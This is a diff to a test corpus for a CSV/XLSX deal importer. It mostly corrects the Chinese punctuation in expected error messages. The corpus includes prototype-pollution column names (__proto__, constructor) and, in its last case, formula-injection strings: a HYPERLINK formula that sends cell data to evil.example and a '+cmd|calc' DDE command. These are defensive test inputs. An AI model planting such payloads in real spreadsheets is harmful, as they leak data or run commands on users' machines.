@@ -79,7 +79,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'header-only.csv',
     code: 0,
     en: /header-only\.csv: the file has a header but no data rows/,
-    zh: /header-only\.csv: 文件只有表头，没有数据行/,
+    zh: /header-only\.csv：文件只有表头，没有数据行/,
     json: (j) => expect(j).toMatchObject({ kind: 'deals', rowsRead: 0, rowsKept: 0 }),
   },
   'missing required column': {
@@ -102,7 +102,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'duplicate-headers.csv',
     code: 0,
     en: /Also matched \(ignored, first column wins\): Amount → amount/,
-    zh: /重复匹配（已忽略，以第一列为准）: Amount → amount/,
+    zh: /重复匹配（已忽略，以第一列为准）：Amount → amount/,
     json: (j) => {
       expect(j.shadowed).toEqual([{ header: 'Amount', field: 'amount' }]);
       expect(amounts(j)).toEqual([100]);
@@ -113,7 +113,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'proto-headers.csv',
     code: 0,
     en: /Not used: __proto__, constructor, toString, hasOwnProperty, valueOf, prototype/,
-    zh: /未使用的列: __proto__, constructor, toString, hasOwnProperty, valueOf, prototype/,
+    zh: /未使用的列：__proto__, constructor, toString, hasOwnProperty, valueOf, prototype/,
     json: (j) => {
       expect(j.rowsKept).toBe(1);
       expect(j.samples[0]).toEqual({ row: 2, id: '#2', rep: 'Ann', stage: 'won', stage_label: 'Won', closed_at: '2026-01-05' });
@@ -125,7 +125,7 @@ export const CORPUS: Record<string, BadInput> = {
     config: { columns: { deals: { rep: '__proto__', stage: 'constructor', closed_at: 'toString' } } },
     code: 0,
     en: /Rows: 2 read, 2 kept/,
-    zh: /行数: 2 读取, 2 有效/,
+    zh: /行数：读取 2，有效 2/,
     json: (j) => {
       expect(j.mapping).toEqual({ rep: '__proto__', stage: 'constructor', closed_at: 'toString' });
       expect(j.samples).toEqual([
@@ -154,7 +154,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'ragged.csv',
     code: 0,
     en: /row 3: Row 3 has 4 fields but the table has 5; values may be shifted[\s\S]*row 4: Row 4 has 7 fields but the table has 5/,
-    zh: /第 3 行: 第 3 行有 4 个字段，而表格有 5 列；数值可能错位[\s\S]*第 4 行有 7 个字段，而表格有 5 列/,
+    zh: /第 3 行：第 3 行有 4 个字段，而表格有 5 列；数值可能错位[\s\S]*第 4 行有 7 个字段，而表格有 5 列/,
     json: (j) => {
       expect(codes(j).sort()).toEqual(['missing_value', 'ragged_row', 'ragged_row']);
       expect(j).toMatchObject({ rowsRead: 4, rowsKept: 3 });
@@ -179,7 +179,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: (dir) => write(dir, 'utf16.csv', Buffer.from(`${CSV_HEAD}A1,张伟,Won,100,2026-01-05\nA2,李娜,Won,200,2026-01-06\n`, 'utf16le')),
     code: 0,
     en: /Format: csv, utf-16le, delimiter ","[\s\S]*Rows: 2 read, 2 kept/,
-    zh: /格式: csv, utf-16le, 分隔符 ","[\s\S]*行数: 2 读取, 2 有效/,
+    zh: /格式：csv, utf-16le, 分隔符 ","[\s\S]*行数：读取 2，有效 2/,
     json: (j) => expect(j.samples.map((s: { rep: string }) => s.rep)).toEqual(['张伟', '李娜']),
   },
   'UTF-16BE without BOM': {
@@ -187,7 +187,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: (dir) => write(dir, 'utf16be.csv', iconv.encode(`${CSV_HEAD}A1,张伟,Won,100,2026-01-05\n`, 'utf16be')),
     code: 0,
     en: /Format: csv, utf-16be/,
-    zh: /格式: csv, utf-16be/,
+    zh: /格式：csv, utf-16be/,
     json: (j) => expect(j.samples[0].rep).toBe('张伟'),
   },
   'mixed encodings, a large UTF-8 file with GBK rows at the end': {
@@ -198,7 +198,7 @@ export const CORPUS: Record<string, BadInput> = {
     },
     code: 0,
     en: /row 40002 "[^"]*": Row 40002 contains bytes that are not valid utf-8 \(shown as �\): the file seems to mix encodings/,
-    zh: /第 40002 行 "[^"]*": 第 40002 行含有不符合 utf-8 编码的字节（显示为 �）：文件似乎混用了多种编码/,
+    zh: /第 40002 行 "[^"]*"：第 40002 行含有不符合 utf-8 编码的字节（显示为 �）：文件似乎混用了多种编码/,
     json: (j) => expect(j).toMatchObject({ encoding: 'utf-8', rowsKept: 40_001 }),
   },
   'mixed encodings, a small file': {
@@ -214,7 +214,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: (dir) => write(dir, 'huge-cell.csv', `${CSV_HEAD}A1,Ann,Won,100,2026-01-05\nA2,"${'x'.repeat(20 << 20)}",Won,200,2026-01-06\nA3,Cy,Won,300,2026-01-07\n`),
     code: 0,
     en: /row 3: Row 3 has a field larger than 10485760 bytes; the row was skipped/,
-    zh: /第 3 行: 第 3 行有超过 10485760 字节的字段，已跳过该行/,
+    zh: /第 3 行：第 3 行有超过 10485760 字节的字段，已跳过该行/,
     json: (j) => expect(j).toMatchObject({ rowsKept: 2, problemCount: 1 }),
     nodeOptions: '--max-old-space-size=400',
   },
@@ -223,7 +223,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: (dir) => write(dir, 'wide.csv', dealsCsv(50, 9_995)),
     code: 0,
     en: /Rows: 50 read, 50 kept[\s\S]*Not used: Extra 1, Extra 2,/,
-    zh: /行数: 50 读取, 50 有效/,
+    zh: /行数：读取 50，有效 50/,
     json: (j) => expect(j.unmapped).toHaveLength(9_995),
   },
   'date in 1899': {
@@ -231,7 +231,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'date-1899.csv',
     code: 0,
     en: /row 2 \[Close Date\] "1899-12-31": 1899-12-31: the year is outside the supported range 1990–2100/,
-    zh: /第 2 行 \[Close Date\] "1899-12-31": 1899-12-31：年份超出支持的范围 1990–2100/,
+    zh: /第 2 行 \[Close Date\] "1899-12-31"：1899-12-31：年份超出支持的范围 1990–2100/,
     json: (j) => expect(j).toMatchObject({ rowsKept: 1, problems: [{ row: 2, code: 'bad_date', severity: 'error' }] }),
   },
   'date 1900-02-29 written as text': {
@@ -239,7 +239,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'date-1900-02-29.csv',
     code: 0,
     en: /row 2 \[Close Date\] "1900-02-29": 1900-2-29: the year is outside the supported range/,
-    zh: /第 2 行 \[Close Date\] "1900-02-29": 1900-2-29：年份超出支持的范围/,
+    zh: /第 2 行 \[Close Date\] "1900-02-29"：1900-2-29：年份超出支持的范围/,
     json: (j) => expect(codes(j)).toEqual(['bad_date']),
   },
   "1900-02-29, Excel's phantom day, as serial 60 in a workbook": {
@@ -247,7 +247,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: (dir) => write(dir, 'phantom.xlsx', xlsx(sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Amount', 'Close Date'], ['A1', 'Ann', 'Won', 100, 60], ['A2', 'Bob', 'Won', 200, 46027]]))),
     code: 0,
     en: /row 2 \[Close Date\] "60": Excel serial 60 is 1900-02-29, Excel's phantom leap day that never existed/,
-    zh: /第 2 行 \[Close Date\] "60": Excel 序列号 60 对应 1900-02-29，这是 Excel 虚构的闰日/,
+    zh: /第 2 行 \[Close Date\] "60"：Excel 序列号 60 对应 1900-02-29，这是 Excel 虚构的闰日/,
     json: (j) => expect(j.samples.map((s: { closed_at: string }) => s.closed_at)).toEqual(['2026-01-05']),
   },
   'date in 9999': {
@@ -255,14 +255,14 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'date-9999.csv',
     code: 0,
     en: /row 2 \[Close Date\] "9999-12-31": 9999-12-31: the year is outside the supported range 1990–2100/,
-    zh: /第 2 行 \[Close Date\] "9999-12-31": 9999-12-31：年份超出支持的范围 1990–2100/,
+    zh: /第 2 行 \[Close Date\] "9999-12-31"：9999-12-31：年份超出支持的范围 1990–2100/,
   },
   'date in year 0026 (a typo for 2026)': {
     what: 'a date in year 0026',
     input: 'date-0026.csv',
     code: 0,
     en: /row 2 \[Close Date\] "0026-11-27": 0026-11-27: the year is outside the supported range 1990–2100 \(config dateRange\)/,
-    zh: /第 2 行 \[Close Date\] "0026-11-27": 0026-11-27：年份超出支持的范围 1990–2100（配置项 dateRange）/,
+    zh: /第 2 行 \[Close Date\] "0026-11-27"：0026-11-27：年份超出支持的范围 1990–2100（配置项 dateRange）/,
     json: (j) => expect(j).toMatchObject({ rowsKept: 1, problems: [{ row: 2, column: 'Close Date', code: 'bad_date', severity: 'error' }] }),
   },
   'date in 1985, outside the default range': {
@@ -270,7 +270,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'date-1985.csv',
     code: 0,
     en: /row 2 \[Close Date\] "1985-06-30": 1985-6-30: the year is outside the supported range 1990–2100/,
-    zh: /第 2 行 \[Close Date\] "1985-06-30": 1985-6-30：年份超出支持的范围 1990–2100/,
+    zh: /第 2 行 \[Close Date\] "1985-06-30"：1985-6-30：年份超出支持的范围 1990–2100/,
     json: (j) => expect(codes(j)).toEqual(['bad_date']),
   },
   'date in 1985 with dateRange widened in the config': {
@@ -279,7 +279,7 @@ export const CORPUS: Record<string, BadInput> = {
     config: { dateRange: { minYear: 1980 } },
     code: 0,
     en: /Rows: 2 read, 2 kept/,
-    zh: /行数: 2 读取, 2 有效/,
+    zh: /行数：读取 2，有效 2/,
     json: (j) => expect(j.problems).toEqual([]),
   },
   'amounts adding up to more than 10 trillion': {
@@ -294,7 +294,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'ambiguous-dates.csv',
     code: 0,
     en: /\[Close Date\]: dates in this column could be day\/month or month\/day; read as YMD\. Set "dateFormat"[\s\S]*row 2 \[Close Date\] "03\/04\/2026": 03\/04\/2026 is ambiguous/,
-    zh: /\[Close Date\]: 此列日期无法判断是"日\/月"还是"月\/日"[\s\S]*"03\/04\/2026": 03\/04\/2026 有歧义/,
+    zh: /\[Close Date\]：此列日期无法判断是"日\/月"还是"月\/日"[\s\S]*"03\/04\/2026"：03\/04\/2026 有歧义/,
     json: (j) => expect(j.dateStyles).toEqual([{ field: 'closed_at', header: 'Close Date', order: 'YMD', ambiguous: true }]),
   },
   'month/day ambiguity resolved by the config': {
@@ -303,7 +303,7 @@ export const CORPUS: Record<string, BadInput> = {
     config: { dateFormat: 'DMY' },
     code: 0,
     en: /Rows: 3 read, 3 kept[\s\S]*Problems: none/,
-    zh: /行数: 3 读取, 3 有效/,
+    zh: /行数：读取 3，有效 3/,
     json: (j) => expect(j.samples.map((s: { closed_at: string }) => s.closed_at)).toEqual(['2026-04-03', '2026-06-05', '2026-12-11']),
   },
   'day-first and month-first dates mixed in a column': {
@@ -320,7 +320,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'amounts-negative.csv',
     code: 0,
     en: /Rows: 3 read, 3 kept/,
-    zh: /行数: 3 读取, 3 有效/,
+    zh: /行数：读取 3，有效 3/,
     // A credit note or a reversal is a legitimate negative amount: kept as signed.
     json: (j) => expect(amounts(j)).toEqual([-100, -250.5, 300]),
   },
@@ -329,7 +329,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'amounts-blank.csv',
     code: 0,
     en: /Rows: 3 read, 3 kept/,
-    zh: /行数: 3 读取, 3 有效/,
+    zh: /行数：读取 3，有效 3/,
     json: (j) => expect(amounts(j)).toEqual([null, null, 300]),
   },
   'non-numeric amounts': {
@@ -337,7 +337,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'amounts-not-numeric.csv',
     code: 0,
     en: /row 2 \[Amount\] "abc": expected an amount such as 1,234\.56, ¥1,234 or 12\.5万[\s\S]*row 3 \[Amount\] "12k": expected an amount without abbreviations[\s\S]*row 4 \[Amount\] "15%": expected an amount, not a percentage/,
-    zh: /第 2 行 \[Amount\] "abc": 应为金额，例如 1,234\.56、¥1,234 或 12\.5万[\s\S]*"12k": 金额不能使用 k、M 等缩写[\s\S]*"15%": 应为金额，而不是百分比/,
+    zh: /第 2 行 \[Amount\] "abc"：应为金额，例如 1,234\.56、¥1,234 或 12\.5万[\s\S]*"12k"：金额不能使用 k、M 等缩写[\s\S]*"15%"：应为金额，而不是百分比/,
     json: (j) => expect(j).toMatchObject({ rowsKept: 1, problemCount: 3 }),
   },
   'amounts with 万 and ¥ mixed': {
@@ -345,7 +345,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'amounts-wan-yuan.csv',
     code: 0,
     en: /Rows: 5 read, 5 kept[\s\S]*Problems: none/,
-    zh: /行数: 5 读取, 5 有效[\s\S]*数据问题：无/,
+    zh: /行数：读取 5，有效 5[\s\S]*数据问题：无/,
     json: (j) => expect(amounts(j)).toEqual([12000, 30000, 12000, 12000, 15000]),
   },
   'duplicate deal ids': {
@@ -353,7 +353,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'duplicate-ids.csv',
     code: 0,
     en: /row 3 \[Opportunity ID\] "A1": duplicate id: already used on row 2; row skipped/,
-    zh: /第 3 行 \[Opportunity ID\] "A1": 编号重复：已在第 2 行出现，已跳过该行/,
+    zh: /第 3 行 \[Opportunity ID\] "A1"：编号重复：已在第 2 行出现，已跳过该行/,
     json: (j) => expect(j).toMatchObject({ rowsRead: 3, rowsKept: 2 }),
   },
   'truncated XLSX': {
@@ -409,7 +409,7 @@ export const CORPUS: Record<string, BadInput> = {
     small: (dir) => padded(dir, 'padded-small.xlsx', 1_000),
     code: 0,
     en: /Rows: 2 read, 2 kept[\s\S]*Problems: none/,
-    zh: /行数: 2 读取, 2 有效/,
+    zh: /行数：读取 2，有效 2/,
     json: (j) => expect(j.samples.map((s: { closed_at: string }) => s.closed_at)).toEqual(['2026-01-05', '2026-01-06']),
     nodeOptions: '--max-old-space-size=200',
   },
@@ -479,7 +479,7 @@ export const CORPUS: Record<string, BadInput> = {
     input: 'formula-text.csv',
     code: 0,
     en: /Rows: 4 read, 4 kept/,
-    zh: /行数: 4 读取, 4 有效/,
+    zh: /行数：读取 4，有效 4/,
     json: (j) => expect(j.samples.map((s: { rep: string }) => s.rep)).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|calc', '@SUM(1+1)', '-2+3']),
   },
 };
